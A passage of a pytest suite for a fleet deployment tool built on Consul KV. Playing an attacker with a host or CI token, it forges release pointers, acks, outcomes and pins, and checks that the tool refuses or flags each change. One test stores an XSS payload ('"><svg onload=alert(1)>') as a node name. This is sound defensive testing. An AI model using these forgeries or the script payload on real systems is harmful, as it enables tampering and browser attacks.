        for one deploy, the `current` of the release host-1 is on: it would stay there.
        Both times it follows the newest deploy the acks commit, `status --fleet` does not
        call the older release the fleet's, and the rollback is refused."""
        fleet = acl_fleet.fleet
        baseline(acl_fleet)
        away = fleet.watchers[0]
        x = host_client(acl_fleet, 2)

        def deploy_without_away(version: str) -> dict[str, Any]:
            art = acl_fleet.publish(version)
            shown = acl_fleet.operator("deploy", "web", art["id"], "--allow-missing")
            result: dict[str, Any] = json.loads(shown.stdout)
            assert result["result"] == "committed", result
            return result

        def current_now() -> bytes:
            entry = x.kv_get(fleet.keys.current)
            assert entry is not None and entry.value is not None
            return entry.value

        def back_on(release: str) -> None:
            away.start()
            fleet.wait_members(3)

            def converged() -> list[str]:
                return [e["release"] for e in away.log_events("converged", this_start=True)]

            wait_for(lambda: bool(converged()), 30, "host-1 converged", fleet)
            assert converged() == [release]  # never to the one `current` named
            assert fleet.currents()[away.name] == release

        away.stop()
        deploy_without_away("v2")
        replayed = current_now()  # v2's deploy, `previous` v1's
        third = deploy_without_away("v3")
        assert x.kv_put(fleet.keys.current, replayed)
        status = fleet_status(acl_fleet)
        assert status["current"] is None, status
        problem = status["current_problems"]["current"]
        assert f"later deploy {third['deploy']} (release {third['release']})" in problem, status
        # A plain rollback would go to v1, two releases back: refused, --to named.
        refused = acl_fleet.operator("rollback", "web", check=False)
        assert refused.returncode == 4, (refused.stdout, refused.stderr)
        assert f"the acks commit a later deploy {third['deploy']}" in refused.stderr
        assert "--to" in refused.stderr
        back_on(third["release"])
        assert releases_of(fleet) == {third["release"]}
        # Its `.state/applied.json` lost, host-1 no longer knows which deploy it is on:
        # the acks tell it that `current` is behind it, and it stays.
        away.stop()
        (away.app_dir / ".state" / "applied.json").unlink()
        away.start()
        said_in_a_cycle(fleet, away, "which this host is on: current not obeyed")
        assert not away.log_events("converged", this_start=True)
        assert releases_of(fleet) == {third["release"]}

        next_deploy_works(acl_fleet, "v4")
        replayed = current_now()  # v4's deploy, which host-1 is on
        away.stop()
        fifth = deploy_without_away("v5")
        assert x.kv_put(fleet.keys.current, replayed)
        back_on(fifth["release"])
        assert releases_of(fleet) == {fifth["release"]}
        next_deploy_works(acl_fleet, "v6")

    def test_a_host_without_its_applied_json_does_not_go_back_to_an_older_deploy(
        self, acl_fleet: AclFleet
    ) -> None:
        """The attacker review: on v2, host-1's `.state/applied.json` gone, host-3's token
        gave its own ack of v2 another CreateIndex claim (a veto of v2 for whoever judges
        it now) and wrote v1's `current` back. Host-1, restarted, had nothing to hold v1
        against and converged back to it: the fleet split. Its own live ack of v2 says
        which deploy it is on."""
        fleet = acl_fleet.fleet
        x = host_client(acl_fleet, 2)
        baseline(acl_fleet)
        entry = x.kv_get(fleet.keys.current)
        assert entry is not None and entry.value is not None
        of_v1 = entry.value
        release2 = next_deploy_works(acl_fleet, "v2")
        entry = x.kv_get(fleet.keys.current)
        assert entry is not None and entry.value is not None
        v2 = json.loads(entry.value)["deploy"]
        away = fleet.watchers[0]
        away.stop()
        (away.app_dir / ".state" / "applied.json").unlink()
        veto_own_ack(acl_fleet, v2)
        assert x.kv_put(fleet.keys.current, of_v1)
        away.start()
        fleet.wait_members(3)
        said_in_a_cycle(fleet, away, "older deploy")
        assert not away.log_events("converged", this_start=True)
        assert releases_of(fleet) == {release2}

    def test_a_plain_rollback_needs_current_to_name_a_deploy_its_acks_commit(
        self, acl_fleet: AclFleet
    ) -> None:
        """The attacker review, on v1, v2, v3: host-3's token wrote `current` naming (a) a
        deploy id no host acked, with v1's as its `previous`, or (b) v2's deploy again
        after giving its own ack of v2 another CreateIndex claim. In (b) `status --fleet`
        said nothing (the claim it took hid v3) and in both a plain rollback went to v1,
        two releases back. Now both are refused, and (b) is shown NOT TRUSTED."""
        fleet = acl_fleet.fleet
        baseline(acl_fleet)
        x = host_client(acl_fleet, 2)
        next_deploy_works(acl_fleet, "v2")
        entry = x.kv_get(fleet.keys.current)
        assert entry is not None and entry.value is not None
        of_v2 = entry.value  # names v2's deploy, `previous` v1's
        release3 = next_deploy_works(acl_fleet, "v3")
        forged = {**json.loads(of_v2), "deploy": "nosuchdeploy"}
        assert x.kv_put(fleet.keys.current, json.dumps(forged).encode())
        refused = acl_fleet.operator("rollback", "web", check=False)
        assert refused.returncode == 4, (refused.stdout, refused.stderr)
        assert "(deploy nosuchdeploy), which its acks do not commit" in refused.stderr
        assert x.kv_put(fleet.keys.current, of_v2)
        veto_own_ack(acl_fleet, json.loads(of_v2)["deploy"])
        status = fleet_status(acl_fleet)
        assert status["current"] is None, status
        assert "claim different CreateIndexes" in status["current_problems"]["current"], status
        refused = acl_fleet.operator("rollback", "web", check=False)
        assert refused.returncode == 4, (refused.stdout, refused.stderr)
        assert "which its acks do not commit" in refused.stderr, refused.stderr
        assert releases_of(fleet) == {release3}
        next_deploy_works(acl_fleet, "v4")

    def test_previous_pointed_two_releases_back_is_refused_for_a_plain_rollback(
        self, acl_fleet: AclFleet
    ) -> None:
        """The attacker review: host-3's token rewrote `current.previous` to the deploy
        before the previous one (really committed); `status --fleet` showed it as the
        fleet's previous and the operator's plain `rollback` committed it, two releases
        back. Each host's live ack now says which release it flipped from."""
        fleet = acl_fleet.fleet
        v1, first, release1 = baseline(acl_fleet)
        release2 = next_deploy_works(acl_fleet, "v2")
        release3 = next_deploy_works(acl_fleet, "v3")
        x = host_client(acl_fleet, 2)
        entry = x.kv_get(fleet.keys.current)
        assert entry is not None and entry.value is not None
        current = json.loads(entry.value)
        assert current["previous"]["release"] == release2
        acks = {
            w.name: json.loads(
                fleet.kv.kv_get(fleet.keys.progress(current["deploy"], w.name)).value
            )
            for w in fleet.watchers
        }
        assert {a["flipped_from"] for a in acks.values()} == {release2}, acks
        # The entry the end of v2's deploy wrote: release1's deploy, really committed.
        two_back = {
            **current["previous"],
            "deploy": first["deploy"],
            "release": release1,
            "artifact": v1["id"],
            "sha256": v1["sha256"],
            "create_index": 0,
        }
        forged = {**current, "previous": two_back}
        forged.pop("version", None)
        assert x.kv_put(fleet.keys.current, json.dumps(forged).encode())
        status = fleet_status(acl_fleet)
        assert (status["current"], status["previous"]) == (release3, None), status
        problem = status["current_problems"]["previous"]
        assert f"flipped from: {release2} (host-1, host-2, host-3)" in problem, problem
        refused = acl_fleet.operator("rollback", "web", check=False)
        assert refused.returncode == 4, (refused.stdout, refused.stderr)
        assert "refusing a plain rollback" in refused.stderr, refused.stderr
        assert releases_of(fleet) == {release3}
        # Named, the release before is rolled back to as usual.
        rolled = json.loads(acl_fleet.operator("rollback", "web", "--to", release2).stdout)
        assert rolled["result"] == "committed", rolled
        fleet.wait_idle()
        assert releases_of(fleet) == {release2}

    def test_current_claiming_a_later_create_index_is_written_anew(
        self, acl_fleet: AclFleet
    ) -> None:
        """One host's token rewrites `current` with a CreateIndex higher than any deploy's:
        the next deploy's end must still write `current` (it is the pointer a host that was
        away converges to), and status says the record is not what its acks say."""
        fleet = acl_fleet.fleet
        baseline(acl_fleet)
        release2 = next_deploy_works(acl_fleet, "v2")
        x = host_client(acl_fleet, 2)
        entry = x.kv_get(fleet.keys.current)
        assert entry is not None and entry.value is not None
        forged = {**json.loads(entry.value), "create_index": 10**12}
        assert x.kv_put(fleet.keys.current, json.dumps(forged).encode())
        status = fleet_status(acl_fleet)
        assert "with CreateIndex 1000000000000, but its acks say" in str(
            status["current_problems"].get("current")
        ), status
        away = fleet.watchers[1]
        away.stop()
        v3 = acl_fleet.publish("v3")
        started = json.loads(
            acl_fleet.operator("deploy", "web", v3["id"], "--allow-missing").stdout
        )
        assert started["result"] == "committed", started
        current = fleet_status(acl_fleet)
        assert current["current"] == started["release"] and not current["current_problems"]
        assert fleet.currents()[away.name] == release2
        away.start()
        fleet.wait_members(3)
        wait_for(
            lambda: fleet.currents()[away.name] == started["release"],
            30,
            "the host that was away converged to the new `current`",
            fleet,
        )
        assert any("current_not_trusted" in w.log_text() for w in fleet.watchers)

    def test_own_ack_rewritten_after_others_flipped_is_contested(self, acl_fleet: AclFleet) -> None:
        fleet = acl_fleet.fleet
        _, _, release1 = baseline(acl_fleet)
        slow_hook(fleet, "validate", 6)  # the forged ack must land while hosts validate
        proc, deploy_id = contest_after_commit(acl_fleet, "v2")
        outcome = fleet.wait_outcome(deploy_id, 40)
        proc.wait(timeout=60)
        assert outcome["result"] == "contested", outcome
        releases = releases_of(fleet)
        assert len(releases) == 1 and releases != {release1}, fleet.currents()
        held = [w for w in fleet.watchers if (w.app_dir / ".state" / "holds.json").exists()]
        assert held, "a contested deploy holds the host that saw it"
        assert any("alarm" in w.log_text() for w in fleet.watchers)
        # `status --fleet` names each hold and alarm (it said "alive, held" only).
        wait_for(
            lambda: all(
                f"ALARM on {w.name}, HELD for it: deploy {deploy_id} is contested"
                in human_fleet_status(acl_fleet)
                for w in held
            ),
            20,
            "the holds and alarms in status --fleet",
            fleet,
        )
        for w in held:
            w.ctl("release-hold", "web", as_json=False)
        # Released, the alarms go too: a host that found it contested after its own part
        # kept its alarm (/health 503, `status --fleet` exit 1) until a restart.
        wait_for(
            lambda: not any(h["alarm"] for h in fleet_status(acl_fleet)["hosts"].values()),
            30,
            "the alarms lifted once the holds were released",
            fleet,
        )
        slow_hook(fleet, "validate", 0)
        next_deploy_works(acl_fleet, "v3")

    @pytest.mark.parametrize("change", ["deleted", "failed", "claim"])
    def test_own_ack_changed_after_the_commit_alarms_a_host_that_was_away(
        self, acl_fleet: AclFleet, change: str
    ) -> None:
        """While host-1 is away, v2 commits on host-2 and host-3; then host-3's token
        deletes its own ack of v2, rewrites it to failed, or gives it another CreateIndex
        claim (DESIGN.md 6.4.4: a changed ack). host-1, back, cannot trust v2 and stays
        on v1, so the fleet is split: it only logged that `current` was not obeyed, and
        `status` on it said nothing. It must raise the alarm (its /health, `status`),
        naming the host that flipped; the next deploy moves every host and lifts it."""
        fleet = acl_fleet.fleet
        _, _, release1 = baseline(acl_fleet)
        away = fleet.watchers[0]
        away.stop()
        art = acl_fleet.publish("v2")
        shown = acl_fleet.operator("deploy", "web", art["id"], "--allow-missing")
        second = json.loads(shown.stdout)
        assert second["result"] == "committed", second
        key = fleet.keys.progress(second["deploy"], "host-3")
        x = host_client(acl_fleet, 2)
        if change == "deleted":
            assert x.kv_delete(key)
        elif change == "failed":
            entry = x.kv_get(key)
            assert entry is not None and entry.value is not None
            forged = {**json.loads(entry.value), "state": FAILED, "error": "forged"}
            assert x.kv_put(key, json.dumps(forged).encode())
        else:
            veto_own_ack(acl_fleet, second["deploy"])
        away.start()
        fleet.wait_members(3)
        wait_for(lambda: "flipped to, but" in left_out_alarm(away), 30, "host-1's alarm", fleet)
        alarm = left_out_alarm(away)
        assert f"current names deploy {second['deploy']}" in alarm, alarm
        assert "host-2" in alarm and "not followed" in alarm, alarm
        assert fleet.currents()[away.name] == release1
        wait_for(
            lambda: "flipped to, but" in fleet_status(acl_fleet)["hosts"][away.name]["alarm"],
            20,
            "host-1's alarm in `status --fleet`",
            fleet,
        )
        assert f"ALARM on {away.name}: current names deploy" in human_fleet_status(acl_fleet)
        # Readers say it as host-1 does (they said "undecided" next to its "contested").
        problem = fleet_status(acl_fleet)["current_problems"]["current"]
        said = "claim different CreateIndexes" if change == "claim" else "host-2 flipped to, but"
        assert said in problem, problem
        if change == "deleted":
            # Down, its record's alarm is from before: shown as such, not counted (exit 0
            # for a host down, as ever; fleet_status checks the exit code).
            away.stop()
            wait_for(lambda: not fleet_status(acl_fleet)["hosts"][away.name]["member"], 30, "down")
            shown = human_fleet_status(acl_fleet)
            assert f"ALARM on {away.name} (its last record; DOWN): " in shown, shown
            away.start()
            fleet.wait_members(3)
        assert not away.log_events("converged", this_start=True)
        next_deploy_works(acl_fleet, "v3")
        wait_for(lambda: "flipped to, but" not in left_out_alarm(away), 20, "alarm lifted", fleet)

    @LONG_SESSIONS
    @pytest.mark.parametrize(
        ("hook_fails", "on_validate_failure"),
        [(False, "rollback"), (True, "rollback"), (True, "hold")],
        ids=["hook-passes", "hook-fails", "hook-fails-hold"],
    )
    def test_a_ready_ack_in_a_stopped_hosts_name_runs_its_post_release_first(
        self, acl_fleet: AclFleet, tmp_path: Path, hook_fails: bool, on_validate_failure: str
    ) -> None:
        """host-3's token acks ready in host-3's name (a copy of host-2's ready ack) while
        host-3's watcher is stopped and has not read the request: the others commit. Its
        watcher never ran ``post_release`` on that tree; it runs it before it flips (the
        first version flipped without it) and reports the ack it did not write. If the
        hook fails there, ``current`` stays where it was: the ack says
        failed_after_commit, and the fleet rolls back as for a failing ``validate``; with
        ``on_validate_failure: hold`` the others stay on the new release and host-3, on
        the old one, tries again by convergence (which runs the hook again), and gets
        there once the hook passes."""
        fleet = acl_fleet.fleet
        fleet.app_extra["on_validate_failure"] = on_validate_failure
        _, _, release1 = baseline(acl_fleet)
        me = fleet.watchers[2]
        ran, fail = tmp_path / "post_release.log", tmp_path / "fail"
        for w in fleet.watchers:  # a hook that notes where `current` was when it ran
            hook = tmp_path / f"post_release-{w.name}"
            hook.write_text(
                "#!/bin/sh\n"
                f'echo "$WATCHER_DEPLOY_ID $(basename "$(readlink "$WATCHER_CURRENT")")" '
                f">> {ran}.{w.name}\n"
                f'test "$(cat {fail}.{w.name} 2>/dev/null)" != "$WATCHER_ARTIFACT"\n'
            )
            hook.chmod(0o755)
            fleet.write_config(w, {"hooks": {"post_release": str(hook)}})
            w.stop()
            w.start()
        fleet.wait_members(len(fleet.watchers))
        v2 = acl_fleet.publish("v2")
        if hook_fails:  # on host-3, for v2 only
            Path(f"{fail}.{me.name}").write_text(v2["id"])
        x = host_client(acl_fleet, 2)
        assert me.proc is not None
        os.killpg(me.proc.pid, signal.SIGSTOP)
        try:
            proc = start_deploy_async(acl_fleet, v2["id"])
            deploy_id = wait_request(fleet)
            others = [w.name for w in fleet.watchers if w is not me]
            wait_for(
                lambda: all(ack_state(fleet, deploy_id, n) == "ready" for n in others),
                30,
                "the other hosts ready",
                fleet,
            )
            keys = fleet.keys
            theirs = fleet.kv.kv_get(keys.progress(deploy_id, others[-1]))
            carried = fleet.kv.kv_get(keys.carried_request(deploy_id, others[-1]))
            assert theirs is not None and carried is not None and carried.value
            forged = replace(NodeProgress.from_json(theirs.value), node=me.name)
            ops = [
                TxnOp.set(keys.progress(deploy_id, me.name), forged.to_json()),
                TxnOp.set(keys.carried_request(deploy_id, me.name), carried.value),
            ]
            assert x.txn(ops).ok
            release2 = str(forged.release)
        finally:
            # Within its session's TTL (LONG_SESSIONS): the deploy's end waits for host-3.
            os.killpg(me.proc.pid, signal.SIGCONT)
        out, err = proc.communicate(timeout=90)
        result = json.loads(out)
        fleet.wait_idle()
        lines = Path(f"{ran}.{me.name}").read_text().splitlines()
        # It ran on host-3 for this deploy, while `current` was still on v1.
        assert f"{deploy_id} {release1}" in lines, lines
        assert me.log_events("own_ack_not_journaled"), me.log_text()[-3000:]
        flips = [e["release"] for e in me.log_events("release_flipped")]
        if hook_fails and on_validate_failure == "hold":
            assert proc.returncode != 0 and result["result"] == "failed_after_commit", (out, err)
            host = result["hosts"][me.name]
            assert host["state"] == "failed_after_commit", host
            assert "post_release failed before the flip" in host["error"], host
            assert "rollback_deploy" not in result or not result["rollback_deploy"], result
            assert release2 not in flips, flips
            assert fleet.currents()[me.name] == release1
            assert {fleet.currents()[n] for n in others} == {release2}
            status = fleet_status(acl_fleet)
            assert status["current"] == release2, status
            # Convergence runs the hook again (with `current` still on v1) until it passes.
            wait_for(
                lambda: (
                    len(
                        [
                            x
                            for x in Path(f"{ran}.{me.name}").read_text().splitlines()
                            if x == f"{deploy_id} {release1}"
                        ]
                    )
                    >= 2
                ),
                60,
                "host-3 ran post_release again by convergence",
                fleet,
            )
            assert fleet.currents()[me.name] == release1
            Path(f"{fail}.{me.name}").unlink()
            wait_for(
                lambda: fleet.currents()[me.name] == release2,
                90,
                "host-3 converged once the hook passed",
                fleet,
            )
        elif hook_fails:
            assert result["result"] == "rolled_back", (out, err)
            host = result["hosts"][me.name]
            assert host["state"] == "failed_after_commit", host
            assert "post_release failed before the flip" in host["error"], host
            assert release2 not in flips, flips
            assert fleet.wait_outcome(result["rollback_deploy"])["result"] == "committed"
            fleet.wait_idle()
            assert releases_of(fleet) == {release1}
        else:
            assert proc.returncode == 0 and result["result"] == "committed", (out, err)
            assert release2 in flips, flips
            assert [line for line in lines if line.startswith(deploy_id)] == [
                f"{deploy_id} {release1}"
            ], lines  # once, before the flip
            assert releases_of(fleet) == {release2}
        next_deploy_works(acl_fleet, "v3")

    def test_old_request_recreated_and_current_pointed_at_it(self, acl_fleet: AclFleet) -> None:
        fleet = acl_fleet.fleet
        _v1, first, _release1 = baseline(acl_fleet)
        release2 = next_deploy_works(acl_fleet, "v2")
        x = host_client(acl_fleet, 2)
        v3 = acl_fleet.publish("v3")
        key = fleet.keys.request(first["deploy"])
        x.kv_delete(key)
        rec = forged_request(fleet, first["deploy"], sessions(fleet), v3)
        assert x.kv_put(key, rec.to_json(), cas=0)
        entry = x.kv_get(fleet.keys.current)
        assert entry is not None and entry.value is not None
        current = {**json.loads(entry.value), "deploy": first["deploy"], "release": rec.release}
        assert x.kv_put(fleet.keys.current, json.dumps(current).encode())
        time.sleep(3)
        assert releases_of(fleet) == {release2}
        # No reader reports the fleet on the forged release: the acks of that deploy
        # carry v1's request, not the re-created one.
        status = fleet_status(acl_fleet)
        assert status["current"] is None, status
        assert first["release"] in status["current_problems"]["current"], status
        assert history_row(acl_fleet, first["deploy"])["release"] == first["release"]
        next_deploy_works(acl_fleet, "v4")

    def test_coordinator_lock_held_forever_delays_only_the_end(self, acl_fleet: AclFleet) -> None:
        fleet = acl_fleet.fleet
        short = {"timeouts": {"prepare": "4s", "apply": "4s", "hook": "3s"}}
        fleet.app_extra.update(short)  # watchers and the operator's watcherctl alike
        for w in fleet.watchers:
            fleet.write_config(w)
            w.stop()
            w.start()
        fleet.wait_members(3)
        acl_fleet.operator_config = acl_fleet._config_with(
            fleet.watchers[0], acl_fleet.tokens.operator, "operator.yaml"
        )
        _, _, release1 = baseline(acl_fleet)
        x = host_client(acl_fleet, 2)
        session = x.session_create("mallory", 30, checks=[])
        v2 = acl_fleet.publish("v2")
        proc = start_deploy_async(acl_fleet, v2["id"])
        deploy_id = wait_request(fleet)
        x.kv_put(fleet.keys.coordinator(deploy_id), b"mallory", acquire=session)
        wait_for(
            lambda: len(releases_of(fleet)) == 1 and releases_of(fleet) != {release1},
            10,
            "every host flipped without waiting for the coordinator",
            fleet,
        )
        outcome = fleet.wait_outcome(deploy_id, 30)
        proc.wait(timeout=60)
        assert outcome["result"] == "committed", outcome
        x.session_destroy(session)
        next_deploy_works(acl_fleet, "v3")

    def test_a_padded_history_does_not_keep_deploys_from_ending(self, acl_fleet: AclFleet) -> None:
        """The attacker review: host-3's token padded `history` with 18,000 deploy ids
        (~470 KB). Every end rewrites that key, and the txn grew past Consul's limit (HTTP
        413): the next deploy's hosts went live, but no end was ever written, `inflight`
        stayed, and every later deploy was refused. Now a host reads at most HISTORY_MAX
        ids (the newest) and the end writes the key back that short."""
        fleet = acl_fleet.fleet
        baseline(acl_fleet)
        x = host_client(acl_fleet, 2)
        entry = x.kv_get(fleet.keys.history)
        assert entry is not None and entry.value is not None
        doc = json.loads(entry.value)
        padding = [f"20200101T000000Z-{i:06x}" for i in range(18_000)]
        assert x.kv_put(
            fleet.keys.history, json.dumps({**doc, "deploys": padding + doc["deploys"]}).encode()
        )
        art = acl_fleet.publish("v2")
        result = json.loads(
            acl_fleet.operator("deploy", "web", art["id"], "--timeout", "60").stdout
        )
        assert result["result"] == "committed", result
        wait_for(lambda: fleet.inflight() is None, 30, "the deploy ended", fleet)
        assert fleet.outcome(result["deploy"]) is not None
        entry = x.kv_get(fleet.keys.history)
        assert entry is not None and entry.value is not None
        written = json.loads(entry.value)["deploys"]
        assert len(written) <= HISTORY_MAX and written[-1] == result["deploy"], len(written)
        # The padding left in (the newest ids taken) names no deploy: `history` lists the
        # real ones and says so (exit 1), not silently.
        shown = acl_fleet.operator("history", "web", check=False)
        assert shown.returncode == 1, (shown.stdout, shown.stderr)
        assert "have no record in KV (20200101T000000Z-" in shown.stderr, shown.stderr
        [row] = [r for r in json.loads(shown.stdout) if r["deploy"] == result["deploy"]]
        assert row["result"] == "committed", row
        next_deploy_works(acl_fleet, "v3")

    def test_a_history_rewritten_by_a_host_hides_no_deploy_and_heals(
        self, acl_fleet: AclFleet
    ) -> None:
        """The operator test: a host token removed ids from `history` and they were gone
        from `history`, the API and the page (exit 0). Now a deploy that ended and is left
        out is shown from its own records and said (exit 1), also behind request keys a
        host may write to crowd the check (the code review); a list that does not parse is
        written anew by the next end, with the deploys before it listed again, after
        which `history` is quiet again (the code review: a list read as empty left every
        deploy before it out for good)."""
        fleet = acl_fleet.fleet
        _, first, _ = baseline(acl_fleet)
        second = deploy(acl_fleet, acl_fleet.publish("v2")["id"])
        x = host_client(acl_fleet, 2)
        entry = x.kv_get(fleet.keys.history)
        assert entry is not None and entry.value is not None
        doc = json.loads(entry.value)
        doc["deploys"] = [d for d in doc["deploys"] if d != first["deploy"]]
        assert x.kv_put(fleet.keys.history, json.dumps(doc).encode())
        for n in range(25):  # made-up keys sorting after every id: not deploys that ended
            assert x.kv_put(fleet.keys.request(f"zz{n:02d}") + "/abort", b"{}")
        shown = acl_fleet.operator("history", "web", "--limit", "5", check=False)
        assert shown.returncode == 1, (shown.stdout, shown.stderr)
        assert f"leaves out 1 deploy(s) that ended ({first['deploy']})" in shown.stderr
        rows = json.loads(shown.stdout)
        assert [r["deploy"] for r in rows] == [second["deploy"], first["deploy"]], rows
        assert rows[1]["unlisted"] is True and "unlisted" not in rows[0], rows
        # A list that does not parse: every deploy still shown, then the next end heals it.
        assert x.kv_put(fleet.keys.history, b"not json")
        shown = acl_fleet.operator("history", "web", check=False)
        assert shown.returncode == 1 and "is not a JSON object" in shown.stderr, shown.stderr
        listed = {r["deploy"] for r in json.loads(shown.stdout)}
        assert {first["deploy"], second["deploy"]} <= listed, listed
        next_deploy_works(acl_fleet, "v3")
        shown = acl_fleet.operator("history", "web", check=False)
        assert shown.returncode == 0, (shown.stdout, shown.stderr)
        rows = json.loads(shown.stdout)
        assert [r["deploy"] for r in rows[1:]] == [second["deploy"], first["deploy"]], rows
        assert not any(r.get("unlisted") for r in rows), rows
        listed = json.loads(x.kv_get(fleet.keys.history).value)["deploys"]  # type: ignore[union-attr]
        assert listed[-3:] == [first["deploy"], second["deploy"], rows[0]["deploy"]], listed
        # A listed deploy whose request no longer parses (the admin's token wrote it) is
        # said as such, with the key and why, not as a deploy without a record.
        assert fleet.kv.kv_put(fleet.keys.request(first["deploy"]), b"{not json")
        shown = acl_fleet.operator("history", "web", check=False)
        assert shown.returncode == 1, (shown.stdout, shown.stderr)
        assert f"have a record that does not parse ({first['deploy']})" in shown.stderr
        assert fleet.keys.request(first["deploy"]) in shown.stderr, shown.stderr
        assert "no record in KV" not in shown.stderr, shown.stderr

    def test_events_seen_at_the_maximum_does_not_silence_raw_events(
        self, acl_fleet: AclFleet
    ) -> None:
        fleet = acl_fleet.fleet
        baseline(acl_fleet)
        x = host_client(acl_fleet, 2)
        assert x.kv_put(fleet.keys.events_seen, str(2**63 - 1).encode())
        v2 = acl_fleet.publish("v2")
        outcome = fleet.wait_outcome(acl_fleet.raw_deploy(v2["id"]))
        assert outcome["result"] == "committed", outcome

    def test_a_wrong_pin_is_a_veto_an_admin_repairs(self, acl_fleet: AclFleet) -> None:
        fleet = acl_fleet.fleet
        _, _, release1 = baseline(acl_fleet)
        v2 = acl_fleet.publish("v2")
        x = host_client(acl_fleet, 2)
        wrong = PinRecord(artifact=v2["id"], url=v2["url"], size=v2["size"], sha256="f" * 64)
        x.kv_delete(fleet.keys.pin(v2["id"]))  # the hosts pinned it while prefetching
        assert x.kv_put(fleet.keys.pin(v2["id"]), wrong.to_json())
        result = acl_fleet.operator("deploy", "web", v2["id"], check=False)
        assert result.returncode != 0
        assert "f" * 64 in result.stdout + result.stderr
        fleet.wait_idle()
        assert releases_of(fleet) == {release1}
        # A raw `deploy` event of it is refused too, with a record that history and every
        # host show (it was only in the log of the host that read the event first).
        event_id = acl_fleet.raw_deploy(v2["id"])
        refused = fleet.wait_outcome(event_id)
        assert refused["result"] == "refused", refused
        assert refused["reason"].startswith("artifact refused: "), refused
        assert "f" * 64 in refused["reason"], refused
        assert history_row(acl_fleet, event_id)["result"] == "refused"
        fleet.wait_idle()
        assert releases_of(fleet) == {release1}
        assert fleet.kv.kv_delete(fleet.keys.pin(v2["id"]))  # the admin (management token)
        deploy(acl_fleet, v2["id"])


# --- CI ---------------------------------------------------------------------------------------


class TestCiToken:
    def test_overwritten_record_is_refused_and_rollback_restages_the_original(
        self, acl_fleet: AclFleet
    ) -> None:
        fleet = acl_fleet.fleet
        v1, _, release1 = baseline(acl_fleet)
        release2 = next_deploy_works(acl_fleet, "v2")
        ci = ci_client(acl_fleet)
        evil = {**v1, "sha256": "e" * 64, "size": v1["size"] + 1}
        assert ci.kv_put(fleet.keys.artifact(v1["id"]), json.dumps(evil).encode())
        refused = acl_fleet.operator("deploy", "web", v1["id"], check=False)
        assert refused.returncode != 0
        text = refused.stdout + refused.stderr
        assert v1["sha256"] in text and "e" * 64 in text, text
        # The rollback takes url, size and sha256 from the committed request: the original
        # bytes, even with the record overwritten or gone.
        for w in fleet.watchers:
            shutil.rmtree(w.app_dir / "releases" / release1, ignore_errors=True)
        assert ci.kv_delete(fleet.keys.artifact(v1["id"]))
        back = json.loads(acl_fleet.operator("rollback", "web").stdout)
        assert back["result"] == "committed", back
        assert fleet.currents() == {w.name: release1 for w in fleet.watchers}
        for w in fleet.watchers:
            assert (w.app_dir / "current" / "VERSION").read_text() == "v1\n"
        assert release2 != release1

    def test_publish_without_write_on_the_record_uploads_nothing(
        self, acl_fleet: AclFleet, tmp_path: Path
    ) -> None:
        fleet = acl_fleet.fleet
        src = tmp_path / "src"
        src.mkdir()
        (src / "VERSION").write_text("x\n")
        # The operator token may read the app but not write artifacts/.
        result = acl_fleet.ctl(
            acl_fleet.operator_config,
            "publish",
            "web",
            str(src),
            "--branch",
            "main",
            "--commit",
            "ab" * 20,
            check=False,
        )
        assert result.returncode != 0
        listed = s3_client(fleet.s3.endpoint_url or "").list_objects_v2(Bucket=fleet.s3.bucket)
        assert listed.get("KeyCount", 0) == 0, listed


class TestReadersOfHostRecords:
    def test_a_host_record_naming_another_host_speaks_for_no_other_host(
        self, acl_fleet: AclFleet
    ) -> None:
        """host-3's token writes its own host record (``hosts/host-3``) saying it is
        host-2's, while host-2 is down: status --fleet must still show host-2's own record
        (not a release host-2 never ran), and deploy still sees host-2 as a known host
        without a member key."""
        fleet = acl_fleet.fleet
        _, _, release1 = baseline(acl_fleet)
        x = host_client(acl_fleet, 2)
        fleet.watchers[1].stop()
        fleet.wait_members(2)
        forged = {
            "node": "host-2",
            "release": "20990101T000000Z-evil-00000000",
            "last_seen": iso(utcnow()),
        }
        assert x.kv_put(fleet.keys.host("host-3"), json.dumps(forged).encode())
        rows = fleet_status(acl_fleet)["hosts"]
        assert rows["host-2"]["release"] == release1, rows
        assert rows["host-2"]["member"] is False, rows
        assert rows["host-3"]["release"] is None, rows  # its own record says nothing of it
        # ... and its row says why, as does the table (it used to be a bare "-").
        assert "the record names node 'host-2'" in rows["host-3"]["record_problem"], rows
        assert rows["host-2"]["record_problem"] == "", rows
        assert "UNREADABLE host record of host-3: " in human_fleet_status(acl_fleet)
        assert x.kv_put(fleet.keys.host("host-3"), b"{not json")
        rows = fleet_status(acl_fleet)["hosts"]
        assert rows["host-3"]["release"] is None and rows["host-3"]["member"], rows
        assert ": not JSON" in rows["host-3"]["record_problem"], rows
        text = human_fleet_status(acl_fleet)
        key = fleet.keys.host("host-3")
        assert f"UNREADABLE host record of host-3: HostRecord at {key}: not JSON" in text, text
        v2 = acl_fleet.publish("v2")
        refused = acl_fleet.operator("deploy", "web", v2["id"], check=False)
        assert refused.returncode != 0, refused.stdout
        assert "host-2" in refused.stdout + refused.stderr
        assert fleet.inflight() is None
        fleet.watchers[1].start()
        fleet.wait_members(3)
        x.kv_delete(fleet.keys.host("host-3"))
        # A record under a key that names no node (the operator's token may write one, and
        # `gc` cannot name it): it refused every deploy as a known host without a member
        # key (the web API review). Now said as a record problem, and not a known host.
        odd = '"><svg onload=alert(1)>'
        forged = {"node": odd, "release": release1, "last_seen": iso(utcnow())}
        assert fleet.kv.kv_put(fleet.keys.host(odd), json.dumps(forged).encode())
        rows = fleet_status(acl_fleet)["hosts"]
        assert "not a node name" in rows[odd]["record_problem"], rows
        next_deploy_works(acl_fleet, "v3")
        fleet.kv.kv_delete(fleet.keys.host(odd))


class TestReadersOfOutcomes:
    @pytest.mark.parametrize("forged", ["committed", "aborted"])
    def test_a_forged_outcome_is_not_what_deploy_reports(
        self, acl_fleet: AclFleet, forged: str, tmp_path: Path
    ) -> None:
        """host-3's token writes ``outcomes/<id>`` while the hosts still stage: a commit
        while host-2 will fail, or an abort while every host will ack ready. The daemons
        never obey it; `watcherctl deploy` (its result and exit code, what a pipeline
        acts on) must say what the acks say, not what the record says."""
        fleet = acl_fleet.fleet
        _, _, release1 = baseline(acl_fleet)
        # The hosts stage until the record is there and `watcherctl deploy` had a moment to
        # read it (a fixed 3 s hook let a slow CI runner's end write over it first).
        gate = tmp_path / "gate"
        for w in fleet.watchers:
            failing = forged == "committed" and w.name == "host-2"
            fleet.give_gated_hook(w, "post_release", gate, 3 if failing else 0)
        fleet.wait_members(len(fleet.watchers))
        v2 = acl_fleet.publish("v2")
        proc = start_deploy_async(acl_fleet, v2["id"])
        deploy_id = wait_request(fleet)
